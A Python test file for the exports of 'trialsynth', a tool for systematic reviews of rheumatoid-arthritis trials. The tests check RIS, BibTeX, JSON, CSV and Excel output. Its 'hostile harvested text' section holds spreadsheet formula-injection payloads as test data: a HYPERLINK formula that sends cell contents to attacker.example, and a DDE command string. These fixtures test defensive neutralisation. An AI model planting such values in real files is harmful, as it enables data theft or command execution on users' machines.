"""Exports: the evidence table, the included references (RIS, BibTeX) and JSON, after screening and corrections."""
from __future__ import annotations

import json
import math
import re
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from corpus.records import AbstractSection, Ids, Record
from corpus.ris import parse_ris, ris_author
from corpus.store import Store
from trialsynth.cli import main
from corpus.pubmed import parse_pubmed_xml
from tests.conftest import fixture_path
from trialsynth.exports import (bibtex_keys, included_records, latex_escape, page_range, parse_formats, to_bibtex,
                                to_ris, write_exports, write_json)
from trialsynth.review import find_review
from trialsynth.screening import effective_screening

SEED = "31908418"


def cli(capsys, *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def record(**fields) -> Record:
    base = {"source": "pubmed", "source_id": fields.get("ids", Ids()).pmid or "x"}
    return Record(**{**base, **fields})


WANG = record(title="Efficacy and Safety of Umbilical Cord MSC Therapy for RA: A Prospective Phase I/II Study",
              authors=("Wang L", "Huang S", "Li XY", "O'Brien, Mary", "RA-MSC Study Group"),
              journal="Drug Des Devel Ther", year=2019, pub_date="2019-12-20",
              abstract="Background\nRA is common.\nMethods\n64 patients (P < 0.05) got 2 × 10^7 cells; 18–64 years.",
              ids=Ids(pmid="31908418", doi="10.2147/dddt.s225613", pmcid="PMC6930836", nct=("NCT01547091",)),
              language="eng")
ALVARO = record(source="ris", source_id="10.1136/x", title="Intravenous adipose-derived MSCs in RA: phase Ib/IIa",
                authors=("Álvaro-Gracia JM", "Jover JA"), journal="Ann Rheum Dis", year=2017,
                abstract_sections=(AbstractSection("Objectives", "To assess safety."), AbstractSection("", "Done.")),
                ids=Ids(doi="10.1136/annrheumdis-2015-208918"))
REGISTRY = record(source="ctgov", source_id="NCT03333681", title="UC-MSC in Active RA", year=2017,
                  ids=Ids(nct=("NCT03333681",)), registry={"status": "COMPLETED"})


# --- RIS -----------------------------------------------------------------------------------------

def test_ris_round_trips_through_the_projects_own_parser():
    text = to_ris([WANG, ALVARO, REGISTRY])
    assert text.count("ER  - ") == 3 and text.startswith("TY  - JOUR\n")
    back = [hit.record for hit in parse_ris(text, origin="included.ris")]
    assert len(back) == 3
    for original, parsed in zip([WANG, ALVARO, REGISTRY], back):
        assert parsed.title == original.title
        assert parsed.authors == tuple(ris_author(a) for a in original.authors)
        assert parsed.year == original.year
        assert parsed.journal == original.journal
        assert parsed.ids == original.ids
    assert back[0].authors == ("Wang L", "Huang S", "Li XY", "O'Brien M", "RA-MSC Study Group")
    assert back[0].abstract == " ".join(WANG.abstract.split())
    assert back[0].pub_date == "2019-12-20" and back[0].language == "eng"
    assert back[1].abstract == "Objectives: To assess safety. Done."
    assert back[0].publication_types == ("Journal Article",) and back[2].publication_types == ("Web Page",)


@pytest.mark.parametrize("pages, expected", [("107-14", ("107", "114")), ("79-89", ("79", "89")),
                                             ("2603-2604", ("2603", "2604")), ("107 – 114", ("107", "114")),
                                             ("S12-S19", ("S12", "S19")), ("e1234", ("e1234", None)),
                                             ("1014859", ("1014859", None)), ("", (None, None)), (None, (None, None))])
def test_page_range_writes_out_medline_short_last_pages(pages, expected):
    assert page_range(pages) == expected


def test_volume_issue_and_pages_are_exported():
    nejm = parse_pubmed_xml(fixture_path("pubmed", "efetch_rct_structured_22663011.xml").read_bytes())[0].record
    ris = to_ris([nejm])
    assert "VL  - 367\nIS  - 2\nSP  - 107\nEP  - 114\n" in ris
    back = parse_ris(ris, origin="included.ris")[0].record
    assert (back.volume, back.issue, back.pages) == ("367", "2", "107-114")
    bib = to_bibtex([nejm])
    assert "volume = {367}" in bib and "number = {2}" in bib and "pages = {107--114}" in bib


def test_ris_fields_one_per_line():
    lines = to_ris([WANG]).splitlines()
    assert "AU  - Wang, L." in lines and "AU  - Li, X. Y." in lines and "AU  - RA-MSC Study Group" in lines
    assert "AN  - 31908418" in lines and "DO  - 10.2147/dddt.s225613" in lines and "PY  - 2019" in lines
    assert "UR  - https://pubmed.ncbi.nlm.nih.gov/31908418/" in lines and "JO  - Drug Des Devel Ther" in lines
    assert all(re.fullmatch(r"[A-Z][A-Z0-9]  - .*", line) for line in lines if line)
    assert to_ris([]) == ""


# --- BibTeX --------------------------------------------------------------------------------------

def balanced(text: str) -> bool:
    depth = 0
    for char in text:
        depth += {"{": 1, "}": -1}.get(char, 0)
        if depth < 0:
            return False
    return depth == 0


def parse_bibtex(text: str) -> list[tuple[str, str, dict[str, str]]]:
    """A small BibTeX reader: brace-delimited fields, braces counted the way BibTeX counts them."""
    entries = []
    pos = 0
    while True:
        at = text.find("@", pos)
        if at < 0:
            return entries
        match = re.compile(r"@(\w+)\{([^,\s]+),").match(text, at)
        assert match, text[at:at + 60]
        kind, key, pos = match.group(1), match.group(2), match.end()
        fields = {}
        while True:
            field = re.compile(r"\s*(\w+)\s*=\s*\{").match(text, pos)
            if not field:
                break
            depth, i = 1, field.end()
            while depth:
                depth += {"{": 1, "}": -1}.get(text[i], 0)
                i += 1
            fields[field.group(1)] = text[field.end():i - 1]
            pos = i
            comma = re.compile(r"\s*,").match(text, pos)
            if comma:
                pos = comma.end()
        end = re.compile(r"\s*\}").match(text, pos)
        assert end, f"entry {key} is not closed: {text[pos:pos + 60]!r}"
        pos = end.end()
        entries.append((kind, key, fields))


def test_bibtex_entries_are_well_formed():
    text = to_bibtex([WANG, ALVARO, REGISTRY])
    entries = parse_bibtex(text)
    assert [(k, key) for k, key, _ in entries] == [("article", "wang2019efficacy"),
                                                  ("article", "alvarogracia2017intravenous"),
                                                  ("misc", "noauthor2017uc")]
    _, _, wang = entries[0]
    assert wang["title"] == "{Efficacy and Safety of Umbilical Cord MSC Therapy for RA: A Prospective Phase I/II Study}"
    assert wang["author"] == "Wang, L. and Huang, S. and Li, X. Y. and O'Brien, Mary and {RA-MSC Study Group}"
    assert (wang["journal"], wang["year"], wang["doi"], wang["pmid"]) == ("Drug Des Devel Ther", "2019",
                                                                          "10.2147/dddt.s225613", "31908418")
    assert wang["url"] == "https://pubmed.ncbi.nlm.nih.gov/31908418/"
    assert wang["note"] == "PMID: 31908418; Trial registration: NCT01547091"
    assert "{$\\times$}" in wang["abstract"] and "18--64" in wang["abstract"]
    assert entries[1][2]["author"] == "{\\'A}lvaro-Gracia, J. M. and Jover, J. A."
    assert all(balanced(v) for _, _, fields in entries for v in fields.values())


def test_bibtex_escapes_specials_and_non_ascii_in_titles():
    nasty = record(title="MSCs & TNF: 50% of {CD4}_Tregs in Sjögren's, a naïve IFN-γ ± IL-6 study #2 ~ $5 \\ ^x }{",
                   authors=("Müller H",), year=2020, journal="J. Imm. & Res.", ids=Ids(pmid="1"))
    (_, key, fields), = parse_bibtex(to_bibtex([nasty]))
    title = fields["title"]
    assert key == "muller2020mscs"
    for expected in (r"MSCs \& TNF", r"50\% of", r"\textbraceleft{}CD4\textbraceright{}\_Tregs", r"Sj{\"o}gren's",
                     r"na{\"\i}ve", r"IFN-{$\gamma$} {$\pm$} IL-6", r"study \#2 \textasciitilde{} \$5 \textbackslash{}",
                     r"\textasciicircum{}x \textbraceright{}\textbraceleft{}"):
        assert expected in title
    assert not re.search(r"(?<!\\)[&%#_]", title)  # every special is escaped
    assert balanced(title) and fields["journal"] == r"J. Imm. \& Res."
    assert fields["author"] == r"M{\"u}ller, H."
    assert title.isascii()


@given(st.text())
@settings(max_examples=300, deadline=None)
def test_escaped_text_always_has_balanced_braces(text):
    escaped = latex_escape(text)
    assert balanced(escaped)
    text_mode = re.sub(r"\{\$[^$]*\$\}", "", escaped)  # inside {$...$} (₀ is {$_0$}) _ is a subscript
    assert not re.search(r"(?<!\\)[&%#_]", text_mode)


def test_clashing_keys_get_letter_suffixes():
    one = record(title="Efficacy of MSC in RA", authors=("Wang L",), year=2019)
    two = record(title="The efficacy of MSC infusion", authors=("Wang Y",), year=2019)
    other = record(title="Safety of MSC", authors=("Wang L",), year=2019)
    three = record(title="Efficacy, again", authors=("Wang, Lei",), year=2019)
    assert bibtex_keys([one, two, other, three]) == ["wang2019efficacya", "wang2019efficacyb", "wang2019safety",
                                                     "wang2019efficacyc"]
    keys = [key for _, key, _ in parse_bibtex(to_bibtex([one, two, other, three]))]
    assert len(set(keys)) == 4


# --- JSON ----------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Result:
    estimate: float
    ci: tuple[float, float]

    def to_dict(self):
        return {"estimate": self.estimate, "ci": self.ci, "tau2": math.nan, "where": Path("a/b")}


def test_write_json_of_a_result_object(tmp_path):
    path = write_json({"results": [Result(-1.25, (-2.0, -0.5))], "k": 3}, tmp_path / "results.json")
    assert json.loads(path.read_text("utf-8")) == {"results": [{"estimate": -1.25, "ci": [-2.0, -0.5], "tau2": None,
                                                                "where": "a/b"}], "k": 3}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.json"]  # no temporary file left


def test_write_json_refuses_what_is_not_json(tmp_path):
    with pytest.raises(Exception, match="cannot write .* as JSON"):
        write_json({"x": object()}, tmp_path / "bad.json")
    assert not (tmp_path / "bad.json").exists()


# --- a review ------------------------------------------------------------------------------------

@pytest.fixture
def review(fictitious_review_template, copy_review, monkeypatch):
    monkeypatch.setenv("TRIALSYNTH_REVIEWER", "Ann")
    return copy_review(fictitious_review_template)


def extractor_included(root: Path) -> set[str]:
    with Store(root / "review.sqlite") as store:
        return {rid for rid, _, e in store.extractions() if e["include"]}


def test_included_records_follow_the_effective_screening(review):
    with Store(review / "review.sqlite") as store:
        store.set_decision("27957329", True, "RA patients after all", "ann")
        store.set_decision(SEED, False, "duplicate", "ann")
        predictions = {rid: e for rid, _, e in store.extractions()}
        records = included_records(store, effective_screening(predictions, store.decisions()))
    titles = {r.title for r in records}
    assert any("Adipose" in t for t in titles)  # 27957329, included by the reviewer
    assert not any(t.startswith("Efficacy and Safety of Umbilical Cord") for t in titles)
    assert len(records) == len(extractor_included(review))  # one in, one out


def test_export_all_formats(review, capsys):
    out_of = next(iter(sorted(extractor_included(review) - {SEED})))
    assert cli(capsys, "screen", "--review", str(review), "--include", "27957329", "--reason", "RA patients")[0] == 0
    assert cli(capsys, "screen", "--review", str(review), "--exclude", out_of, "--reason", "duplicate")[0] == 0
    (review / "corrections.csv").write_text(
        "record_id,measure,arm,timepoint_weeks,field,value,reviewer,source,note\n"
        "fictitious-2025-a,DAS28,Fictitious arm,52,followup_mean,3.2,Ann,Table 2,\n"
        "fictitious-2025-a,DAS28,Fictitious arm,52,followup_sd,1.1,Ann,Table 2,\n", encoding="utf-8")
    code, out, err = cli(capsys, "export", "--review", str(review))
    assert code == 0, err
    folder = review / "exports"
    names = ["evidence.csv", "evidence.xlsx", "included.ris", "included.bib", "review.json"]
    assert out.splitlines() == [f"wrote {folder / n}" for n in names]
    assert sorted(p.name for p in folder.iterdir()) == sorted(names)  # no temporary files
    included = (extractor_included(review) | {"27957329"}) - {out_of}

    table = pd.read_csv(folder / "evidence.csv", dtype={"record_id": str})
    assert set(table["record_id"]) == included and table["include"].all()
    das28 = table[(table["record_id"] == "fictitious-2025-a") & (table["arm"] == "Fictitious arm")]
    assert das28[["followup_mean", "followup_sd"]].values.tolist() == [[3.2, 1.1]]
    assert das28["entered_by"].tolist() == ["reviewer:Ann"] and das28["verbatim"].tolist() == ["Table 2"]
    xlsx = pd.read_excel(folder / "evidence.xlsx", dtype={"record_id": str})
    assert len(xlsx) == len(table) and set(xlsx["record_id"]) == included

    with Store(review / "review.sqlite") as store:
        expected = sorted(store.get(rid).record.title for rid in included)
    ris = [h.record for h in parse_ris((folder / "included.ris").read_text("utf-8"))]
    assert sorted(r.title for r in ris) == expected
    bib = parse_bibtex((folder / "included.bib").read_text("utf-8"))
    assert len(bib) == len(included) and len({key for _, key, _ in bib}) == len(included)

    data = json.loads((folder / "review.json").read_text("utf-8"))
    assert data["corrections_file"] == "corrections.csv"
    by_id = {s["record_id"]: s for s in data["screening"]}
    assert by_id["27957329"] == {"record_id": "27957329", "include": True, "reason": "RA patients",
                                 "decided_by": "reviewer:Ann"}
    assert by_id[out_of]["include"] is False and by_id[out_of]["decided_by"] == "reviewer:Ann"
    assert {s["record_id"] for s in data["studies"]} == included


def test_export_one_format_to_a_file(review, capsys, tmp_path):
    target = tmp_path / "refs.ris"
    code, out, err = cli(capsys, "export", "--review", str(review), "--format", "ris", "-o", str(target))
    assert code == 0, err
    assert out == f"wrote {target}\n"
    assert len(parse_ris(target.read_text("utf-8"))) == len(extractor_included(review))
    code, out, err = cli(capsys, "export", "--review", str(review), "--format", "bib,csv", "-o", str(tmp_path / "o"))
    assert code == 0, err
    assert sorted(p.name for p in (tmp_path / "o").iterdir()) == ["evidence.csv", "included.bib"]


@pytest.mark.parametrize("args, message", [
    (["--format", "pdf"], "unknown export format 'pdf'"),
    (["-o", "x.csv"], "is one file but 5 formats"),
    (["--format", "ris", "-o", "x.bib"], "has the suffix .bib but the format is ris"),
])
def test_export_errors_exit_2(review, capsys, args, message):
    code, _, err = cli(capsys, "export", "--review", str(review), *args)
    assert code == 2 and message in err


def test_a_broken_corrections_file_stops_the_export(review, capsys):
    (review / "corrections.csv").write_text("record_id,field,value,reviewer\nfictitious-2025-a,n_enrolled,-3,Ann\n",
                                            encoding="utf-8")
    code, _, err = cli(capsys, "export", "--review", str(review))
    assert code == 2 and "corrections.csv line 2: n_enrolled must be a whole number" in err
    assert not (review / "exports" / "evidence.csv").exists()


def test_parse_formats():
    assert parse_formats("all") == ["csv", "xlsx", "ris", "bibtex", "json"]
    assert parse_formats("json, bib ,csv") == ["csv", "bibtex", "json"]
    assert write_exports.__doc__ and find_review.__doc__


# --- hostile harvested text: formula injection, line breaks, control characters (issue 13) ------

HOSTILE = [
    {"id": "evil-1", "title": '=HYPERLINK("http://attacker.example/?x="&A1,"Click for the full text")',
     "authors": ["+Cmd|' /C calc'!A0", "@SUM(1+1)"], "year": 2021, "journal": "-2+3",
     "abstract": "Rheumatoid arthritis patients received umbilical cord mesenchymal stem cells."},
    {"id": "evil-2", "title": "A title with a bare\rcarriage return and a bell \x07 and NUL \x00 inside",
     "authors": ["\tTab T"], "year": 2022, "journal": "\rJournal",
     "abstract": "Rheumatoid arthritis patients received mesenchymal stem cells."},
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("TRIALSYNTH_REVIEWER", "Ann")
    root = tmp_path / "rev"
    source = tmp_path / "hostile.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in HOSTILE), encoding="utf-8")
    assert main(["init", str(root)]) == 0
    assert main(["harvest", "--review", str(root), "--from", str(source)]) == 0
    assert main(["extract", "--review", str(root)]) == 0
    for r in HOSTILE:  # in the exports whatever the extractor thinks of them
        assert main(["screen", "--review", str(root), "--include", r["id"], "--reason", "test"]) == 0
    capsys.readouterr()
    return root


def _texts(values) -> list[str]:
    return [v for v in values if isinstance(v, str)]


def test_table_csv_neutralises_formulas_and_keeps_rows_whole(hostile, capsys, tmp_path):
    import csv

    path = tmp_path / "t.csv"
    assert cli(capsys, "--review", str(hostile), "table", "-o", str(path))[0] == 0
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(pd.read_csv(path))  # a bare CR does not split a row
    titles = {r["record_id"]: r["title"] for r in rows}
    assert titles["evil-1"].startswith("'=HYPERLINK(")
    assert "carriage return" in titles["evil-2"] and "\x07" not in titles["evil-2"] and "\x00" not in titles["evil-2"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_START) or re.fullmatch(r"-?\d+(\.\d+)?", value), value
    # every physical line is either a header/row start or inside a quoted field
    assert path.read_bytes().count(b"\r") == 0 or b'"A title with a bare' in path.read_bytes()


def test_xlsx_has_no_live_formula_and_numbers_stay_numbers(hostile, capsys, tmp_path):
    from openpyxl import load_workbook

    (hostile / "corrections.csv").write_text(
        "record_id,measure,arm,timepoint_weeks,field,value,reviewer,source,note\n"
        "evil-1,DAS28,MSC,12,change_mean,-1.2,Ann,Table 2,\n", encoding="utf-8")
    path = tmp_path / "t.xlsx"
    code, _, err = cli(capsys, "--review", str(hostile), "table", "-o", str(path))
    assert code == 0, err
    sheet = load_workbook(path).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
    header = [c.value for c in next(sheet.iter_rows())]
    change = header.index("change_mean")
    values = [row[change].value for row in sheet.iter_rows(min_row=2)]
    assert -1.2 in values  # a negative number in a numeric column is a number, not text
    titles = _texts(row[header.index("title")].value for row in sheet.iter_rows(min_row=2))
    assert any(t.startswith("'=HYPERLINK(") for t in titles)


def test_export_all_survives_control_characters(hostile, capsys):
    code, out, err = cli(capsys, "export", "--review", str(hostile))
    assert code == 0, err
    folder = hostile / "exports"
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        ["evidence.csv", "evidence.xlsx", "included.ris", "included.bib", "review.json"])
    ris = (folder / "included.ris").read_text("utf-8")
    bib = (folder / "included.bib").read_text("utf-8")
    assert "\x07" not in ris + bib and "\x00" not in ris + bib and "\r" not in ris
    assert len(parse_ris(ris)) == 2


def test_one_failed_format_does_not_stop_the_others(hostile, capsys, monkeypatch):
    import trialsynth.exports as exports

    def broken(records):
        raise ValueError("the BibTeX writer broke")

    monkeypatch.setattr(exports, "to_bibtex", broken)
    code, out, err = cli(capsys, "export", "--review", str(hostile))
    assert code == 2
    assert len(err.strip().splitlines()) == 1 and "bibtex" in err and "the BibTeX writer broke" in err
    assert "wrote" in err and "review.json" in err
    folder = hostile / "exports"
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        ["evidence.csv", "evidence.xlsx", "included.ris", "review.json"])


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("+cmd", "'+cmd"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\nx"),
    ("-1.5", "-1.5"), ("ok", "ok"), ("a\rb", "a\nb"), ("a\r\nb", "a\nb"), ("bell\x07", "bell"), ("", ""),
])
def test_safe_cell(value, expected):
    from trialsynth.exports import safe_cell

    assert safe_cell(value) == expected


# --- a Zotero-style round trip: export, read back with the field's own readers ------------------

ROUND_TRIP = [
    WANG, ALVARO, REGISTRY,
    record(title="Müller–Sjögren naïve IFN-γ ± IL-6: 50% & {CD4}_T cells at 2 × 10^7/kg ≥ 3 doses",
           authors=("Müller H", "Łukasz, Piotr", "Ødegård T"), journal="Ann. Rheum. Dis. & Res.", year=2020,
           volume="79", issue="3", pages="107-14", ids=Ids(pmid="99999999", doi="10.9999/x_{y}%z")),
]


def test_bibtex_round_trips_through_bibtexparser_and_pylatexenc():
    import bibtexparser
    from bibtexparser import middlewares as m

    # LaTeX decoded to Unicode (math too), as a reference manager's BibTeX import does
    library = bibtexparser.parse_string(to_bibtex(ROUND_TRIP), append_middleware=[
        m.LatexDecodingMiddleware(keep_math_mode=False), m.SeparateCoAuthors(), m.SplitNameParts()])
    # doi and url are verbatim fields (biblatex): read as written, not LaTeX-decoded
    verbatim = bibtexparser.parse_string(to_bibtex(ROUND_TRIP))
    assert not library.failed_blocks and not verbatim.failed_blocks
    assert [e.key for e in library.entries] == bibtex_keys(ROUND_TRIP)
    for original, entry, raw in zip(ROUND_TRIP, library.entries, verbatim.entries):
        fields = {**entry.fields_dict, "doi": raw.fields_dict.get("doi")}
        assert fields["title"].value.strip("{}") == " ".join(original.title.split())
        assert int(fields["year"].value) == original.year
        if original.journal:
            assert fields["journal"].value == original.journal
        if original.ids.doi:
            assert fields["doi"].value == original.ids.doi.replace("{", "%7B").replace("}", "%7D")
        if original.authors:
            names = fields["author"].value
            assert [n.last[0] if n.last else " ".join(n.first) for n in names][:2] == \
                   [a.split(",")[0].split()[0] if "," in a or " " in a else a for a in original.authors][:2]
    nasty = library.entries[3].fields_dict
    assert nasty["pages"].value == "107–114" and nasty["number"].value == "3" and nasty["volume"].value == "79"
    assert [n.last[0] for n in nasty["author"].value] == ["Müller", "Łukasz", "Ødegård"]


def test_ris_round_trips_through_rispy():
    import rispy

    entries = rispy.loads(to_ris(ROUND_TRIP))
    assert len(entries) == len(ROUND_TRIP)
    for original, entry in zip(ROUND_TRIP, entries):
        assert entry["title"] == " ".join(original.title.split())
        assert entry["year"] == str(original.year)
        assert entry.get("doi") == original.ids.doi
        assert len(entry.get("authors", [])) == len(original.authors)
        if original.ids.pmid:
            assert entry["accession_number"] == original.ids.pmid and entry["name_of_database"] == "PubMed"
    assert entries[0]["type_of_reference"] == "JOUR" and entries[2]["type_of_reference"] == "ELEC"
    assert (entries[3]["volume"], entries[3]["number"], entries[3]["start_page"], entries[3]["end_page"]) == (
        "79", "3", "107", "114")
    assert entries[3]["authors"] == ["Müller, H.", "Łukasz, Piotr", "Ødegård, T."]
